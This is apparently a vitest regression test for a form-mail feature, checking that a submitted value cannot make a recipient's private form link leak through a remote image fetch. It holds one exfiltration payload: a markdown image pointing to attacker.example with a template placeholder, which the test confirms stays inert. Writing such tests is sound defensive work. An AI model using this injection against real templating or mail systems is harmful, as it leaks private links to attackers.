/**
 * Issue 39, "A form's personal link leaks through the email": run values were put into the mail
 * body first and `{{#url#}}` replaced after, so a value holding `{{#url#}}` inside a remote image
 * received the recipient's link, and the mail client's image fetch delivered it to the sender of
 * that value. Through a real SMTP server: the link appears only where the DSL's template put it,
 * and the HTML loads no remote image.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startServer, type TestServer } from '../helpers/server.js';
import { dataFrames, parseSse } from '../helpers/sse.js';
import { startSmtpPeer, smtpEnv, type SmtpPeer } from '../helpers/smtp-peer.js';
import { reviewApp } from '../helpers/form-apps.js';

const USER = 'mailer';
const PASS = 'pw-4471';
const APP_WEB_URL = 'https://forms.example.test';

let peer: SmtpPeer;
let s: TestServer;
beforeAll(async () => {
  peer = await startSmtpPeer({ user: USER, pass: PASS });
  s = await startServer({ env: { ...smtpEnv(peer.port, USER, PASS), QUEUE_POLL_MS: '20', QUEUE_RETRY_DELAY_MS: '10', APP_WEB_URL } });
});
afterAll(async () => {
  expect((await fetch(`${s.url}/health`)).status).toBe(200);
  await s?.close();
  await peer?.close();
});

describe('form mail', () => {
  it('a run value holding {{#url#}} in a remote image gets no link, and the mail fetches no remote image', async () => {
    const { apiKey } = await s.importApp(
      reviewApp([
        {
          id: 'mail-1',
          type: 'email',
          enabled: true,
          config: {
            recipients: { whole_workspace: false, items: [{ type: 'external', email: 'approver@example.test' }] },
            subject: 'Review {{#start.draft#}}',
            body: 'Please review:\n\n{{#start.draft#}}\n\n[Open the form]({{#url#}})',
            debug_mode: false,
          },
        },
      ]),
    );
    const draft = 'Quarterly plan ![](https://attacker.example/p.png?t={{#url#}}) and {{#url#}}';
    const r = await fetch(`${s.api}/workflows/run`, {
      method: 'POST',
      headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
      body: JSON.stringify({ inputs: { draft }, response_mode: 'streaming', user: 'attacker' }),
    });
    expect(dataFrames(parseSse(await r.text())).at(-1)?.event).toBe('workflow_paused');
    await vi.waitFor(() => expect(peer.mails.length).toBe(1), { timeout: 20_000, interval: 50 });
    const m = peer.mails[0]!;
    const links = [...m.text.matchAll(/https:\/\/forms\.example\.test\/form\/[A-Za-z0-9_-]+/g)].map((x) => x[0]);
    // 1. the link is in the mail once: where the template put it
    expect(links).toHaveLength(1);
    expect(m.text).toContain(`[Open the form](${links[0]})`);
    // 2. the value's placeholders stay text, in the body and the subject
    expect(m.text).toContain('![](https://attacker.example/p.png?t={{#url#}}) and {{#url#}}');
    expect(m.subject).toContain('{{#url#}}');
    expect(m.subject).not.toContain('forms.example.test');
    expect(m.html.match(/forms\.example\.test\/form\//g)).toHaveLength(1);
    // 3. no remote image: the value's image is a link the reader may follow or not
    expect(m.html).not.toMatch(/<img\b[^>]*\bsrc="(?!data:)/i);
    expect(m.html).toContain('<a href="https://attacker.example/p.png?t=%7B%7B#url#%7D%7D" rel="noopener noreferrer">');
  });
});
